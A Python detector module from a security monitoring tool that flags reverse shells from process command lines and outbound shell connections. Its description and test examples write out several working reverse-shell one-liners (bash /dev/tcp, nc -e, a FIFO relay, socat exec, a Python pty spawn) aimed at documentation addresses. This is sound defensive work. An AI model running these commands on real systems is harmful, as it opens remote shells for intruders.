"""Reverse shells: a shell wired to a socket, by its command line or by a shell's own outbound connection."""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path
from typing import Any, ClassVar

from detectors.base import Example, Finding, Signal
from detectors.examples import flow, proc
from detectors.process._cmdline import SHELLS, argv, basename, process_fields, redact, script_of, segments
from detectors.process.tunnel import context
from detectors.sandbox._base import LineageDetector
from detectors.sandbox._lineage import Lineage
from gpusentry.contract import Dataset, as_dict, event_time, get
from gpusentry.knowledge import load_entries, resolve
from gpusentry.settings.detection import DetectionSettings

SHELLS_FILE = Path(__file__).with_name("reverse_shells.toml")
# bash's /dev/tcp and /dev/udp pseudo-files (bash(1), REDIRECTION): opening one connects a socket.
DEV_SOCKET = re.compile(r"/dev/(?:tcp|udp)/([^/\s'\"]+)/(\d+)")


@dataclass(frozen=True)
class ShellProgram:
    id: str
    kind: str
    exec_flags: tuple[str, ...]
    code_flags: tuple[str, ...]
    socket_markers: tuple[str, ...]
    shell_markers: tuple[str, ...]


@lru_cache(maxsize=4)
def load_programs(path: Path | None = None) -> dict[str, ShellProgram]:
    path = path or resolve(SHELLS_FILE)
    entries = load_entries(path, "program", required={"id": str, "names": list, "kind": str},
                           optional={"exec_flags": list, "code_flags": list, "socket_markers": list,
                                     "shell_markers": list})
    out = {}
    for e in entries:
        prog = ShellProgram(e["id"], e["kind"], tuple(e.get("exec_flags", ())), tuple(e.get("code_flags", ())),
                            tuple(e.get("socket_markers", ())), tuple(e.get("shell_markers", ())))
        for n in e["names"]:
            out[n] = prog
    return out


class ReverseShell(LineageDetector):
    id = "process.reverse_shell"
    title = "Reverse shell"
    description = ("A shell whose input and output are a network connection: bash's /dev/tcp redirections "
                   "(`bash -i >& /dev/tcp/host/port 0>&1`), netcat or ncat with -e/-c, socat EXEC:/SYSTEM:, a "
                   "shell piped into nc through a FIFO, Python/Perl/Ruby/PHP/Node one-liners that connect a socket "
                   "and start a shell on it; and on the wire, a shell process that opens an outbound connection "
                   "itself. Loopback targets (health checks probing local ports) are ignored. High from an agent "
                   "sandbox or a service, medium elsewhere. Program vocabulary is data "
                   "(detectors/process/reverse_shells.toml).")
    severity = "high"
    technique = "T1496"
    references = ("https://attack.mitre.org/techniques/T1059/004/", "https://attack.mitre.org/techniques/T1059/006/",
                  "https://www.gnu.org/software/bash/manual/bash.html#Redirections")
    datasets = frozenset({Dataset.PROCESS, Dataset.NETWORK})
    signal = Signal.TUNNEL

    examples: ClassVar[list[Example]] = [
        Example("bash -i to /dev/tcp from a Jupyter kernel", True, [
            proc("python -m ipykernel_launcher -f kernel-3.json", pid=300, parent="jupyter-lab", name="python"),
            proc("/bin/sh -c 'bash -i >& /dev/tcp/198.51.100.66/4444 0>&1'", pid=301, parent="python",
                 parent_pid=300, t=3)]),
        Example("nc -e from a user's shell", True, [proc("nc -e /bin/sh 203.0.113.10 9001", parent="bash")]),
        Example("FIFO piped through nc", True,
                [proc("/bin/sh -c 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.10 443 >/tmp/f'",
                      parent="python3")]),
        Example("socat exec with a pty", True,
                [proc("socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.11:4443", parent="bash")]),
        Example("python pty spawn over a socket", True, [proc(
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.12\",4242));"
            "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'", parent="bash")]),
        Example("a shell's own outbound connection", True,
                [flow(None, dst="203.0.113.13", dport=4444, process_name="bash")]),
        Example("health check of a local port through /dev/tcp", False,
                [proc("/bin/bash -c 'echo > /dev/tcp/127.0.0.1/8080'", parent="kubelet")]),
        Example("nc port probe without a program", False, [proc("nc -z -w 2 10.0.0.5 5432", parent="bash")]),
        Example("python http server", False, [proc("python3 -m http.server 8000", parent="bash")]),
        Example("a shell connecting to loopback", False,
                [flow(None, dst="127.0.0.1", dport=6379, process_name="bash")]),
    ]

    def __init__(self, settings: DetectionSettings | None = None) -> None:
        super().__init__(settings)
        self.programs = load_programs()

    def process(self, event: dict[str, Any], state: Lineage) -> Iterable[Finding]:
        ts = event_time(event)
        if event["event"]["dataset"] == Dataset.NETWORK.value:
            return self._flow(event, state, ts)
        me = state.observe(event, self.matcher, ts)
        if event["event"]["type"] != ["start"]:
            return ()
        p = event["process"]
        args = argv(p)
        how = self._how(args)
        if how is None:
            return ()
        where, sandbox_fields = context(me, get(p, "parent.name"))
        fields = {**process_fields(event), **sandbox_fields}
        line = redact(p.get("command_line") or " ".join(args)) or ""
        severity = "high" if where else "medium"
        return [self.finding(event, f"reverse shell ({how}){' from an ' + where if where else ''}: {line[:160]}",
                             timestamp=ts, severity=severity, score=0.9, fields=fields)]

    def _how(self, args: list[str]) -> str | None:
        if not args:
            return None
        script = script_of(args)
        text = script if script is not None else " ".join(args)
        for host, _port in DEV_SOCKET.findall(text):
            if not self.places.is_local(host):
                return f"/dev/tcp to {host}"
        segs = segments(args)
        names = [basename(s[0]) for s in segs if s]
        # A shell piped into a relay: `cat f | sh -i | nc host port > f`.
        if len(segs) > 1 and any(n in SHELLS for n in names[1:]) and any(
                self.programs.get(n) and self.programs[n].kind == "relay" for n in names):
            relay = next(n for n in names if self.programs.get(n) and self.programs[n].kind == "relay")
            return f"shell piped through {relay}"
        for seg in segs:
            found = self._program(seg)
            if found:
                return found
        return None

    def _program(self, seg: list[str]) -> str | None:
        name = basename(seg[0]) if seg else ""
        prog = self.programs.get(name)
        if prog is None:
            return None
        rest = seg[1:]
        if name == "busybox" and rest and rest[0] in ("nc", "netcat"):
            rest = rest[1:]
        if prog.kind == "relay":
            for a in rest:
                flag = a.split("=", 1)[0]
                if flag in prog.exec_flags:
                    return f"{name} {flag}"
                address = next((f for f in prog.exec_flags if f.endswith(":") and a.upper().startswith(f)), None)
                if address:
                    return f"{name} {address.rstrip(':').lower()}"
            return None
        for i, a in enumerate(rest):
            if a in prog.code_flags and i + 1 < len(rest):
                code = rest[i + 1]
                if any(m in code for m in prog.socket_markers) and any(m in code for m in prog.shell_markers):
                    return f"{prog.id} socket to a shell"
        return None

    def _flow(self, event: dict[str, Any], state: Lineage, ts: float) -> list[Finding]:
        p = as_dict(event.get("process"))
        name = basename(p.get("executable")) or p.get("name") or ""
        if name not in SHELLS or get(event, "network.transport") != "tcp":
            return []
        dst = event["destination"]["ip"]
        if self.places.is_local(dst):
            return []
        me = state.of_pid(p.get("pid"))
        where, sandbox_fields = context(me, None)
        return [self.finding(event, f"shell {name} (pid {p.get('pid')}) opened a connection to "
                             f"{dst}:{event['destination']['port']}{' from an ' + where if where else ''}",
                             timestamp=ts, severity="high" if where else "medium", score=0.8,
                             fields={"process.pid": p.get("pid"), "process.name": p.get("name"),
                                     "destination.ip": dst, "destination.port": event["destination"]["port"],
                                     **sandbox_fields})]
